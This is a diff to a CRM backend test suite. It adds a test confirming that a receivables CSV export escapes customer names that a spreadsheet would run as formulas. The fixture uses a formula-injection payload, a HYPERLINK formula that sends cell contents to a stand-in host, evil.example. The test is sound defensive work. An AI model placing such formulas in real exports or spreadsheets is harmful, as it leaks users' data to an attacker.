@@ -306,6 +306,26 @@ def test_the_csv_keeps_chinese_names_and_decimal_money(people, book):
     assert first["ordered"] == "1500.00" and first["overdue"] == "400.00"
 
 
+def test_a_customer_name_that_looks_like_a_formula_is_inert_in_the_csv(people):
+    # given a customer whose name a spreadsheet would run as a formula
+    from backend.crm.models import Customer
+
+    product = ProductFactory()
+    hostile = CustomerFactory(owner=people["owner"], name='=HYPERLINK("http://evil.example/?"&A1,"Click")')
+    order = order_services.order_create(actor=people["owner"], customer=hostile,
+                                        lines=[{"product": product.pk, "quantity": "1", "unit_price": "100"}])
+    order_services.invoice_issue(actor=people["owner"], order=order, amount="100", due_on=TODAY)
+    assert Customer.objects.filter(pk=hostile.pk).exists()
+
+    raw = b"".join(api_client(people["owner"]).get("/api/crm/reports/receivables/?format=csv").streaming_content)
+    table = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+
+    # then the cell is text (a leading apostrophe), and numbers are still numbers
+    names = [row[1] for row in table[1:]]
+    assert "'" + hostile.name in names and hostile.name not in names
+    assert all(not cell.startswith(("=", "+", "@")) for row in table for cell in row)
+
+
 def test_reports_are_for_staff_only(people, funnel):
     from rest_framework.test import APIClient
 
